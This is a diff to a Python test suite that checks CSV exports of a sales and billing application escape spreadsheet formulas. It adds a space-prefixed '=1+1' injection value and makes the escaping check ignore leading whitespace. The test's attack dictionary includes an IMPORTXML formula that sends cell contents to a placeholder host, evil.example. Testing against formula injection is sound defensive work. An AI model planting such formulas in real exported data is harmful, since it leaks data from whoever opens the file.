@@ -46,6 +46,7 @@ ATTACKS = {
     "deal name": "@Line 9",
     "deal lost reason": "\r=1+1",
     "invoice note": "'-5% early",
+    "user display name": "  =1+1",  # spaces first: some spreadsheets trim them
     "payment note": '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
 }
 
@@ -55,6 +56,7 @@ def _plant(engine) -> None:
     with unit_of_work(engine) as s:
         acme = s.get(Account, b["acme"])
         alice = s.get(User, b["alice"])
+        s.get(User, b["carol"]).display_name = ATTACKS["user display name"]
         evil = f.account(s, ATTACKS["account name"], owner=alice, tier="B", score=50.0)
         evil.industry = ATTACKS["account industry"]
         evil.snoozed_until = date(2026, 12, 1)
@@ -93,6 +95,7 @@ def _stored(engine) -> dict[str, str | None]:
         deal = s.exec(select(Deal).where(Deal.account_id == evil.id)).one()
         invoice = s.exec(select(Invoice).where(Invoice.number == "FP-9")).one()
         payment = s.exec(select(Payment).where(Payment.number == "SK-9")).one()
+        carol = s.exec(select(User).where(User.handle == "carol")).one()
         return {
             "account name": evil.name,
             "account industry": evil.industry,
@@ -104,13 +107,14 @@ def _stored(engine) -> dict[str, str | None]:
             "deal name": deal.name,
             "deal lost reason": deal.lost_reason,
             "invoice note": invoice.note,
+            "user display name": carol.display_name,
             "payment note": payment.note,
         }
 
 
 def _opens_as_text(cell: str) -> bool:
     """How Excel, LibreOffice and WPS read a CSV cell: one leading quote makes it text."""
-    return cell.startswith("'") or not cell.startswith(LIVE)
+    return cell.startswith("'") or not cell.lstrip(" \n").startswith(LIVE)
 
 
 def test_every_exported_cell_opens_as_text_and_imports_back_exactly(engine, empty_database_url):
@@ -146,7 +150,7 @@ def test_kam_export_writes_the_same_escaped_cells(engine, database_url, tmp_path
     _plant(engine)
     monkeypatch.chdir(tmp_path)
     monkeypatch.setenv("KAM_DATABASE_URL", database_url)
-    for kind in ("accounts", "contacts", "deals", "invoices", "payments"):
+    for kind in KINDS:
         args = ["export", kind] + (["out.csv"] if to_file else [])
         result = CliRunner().invoke(app, args)
         assert result.exit_code == 0, result.output
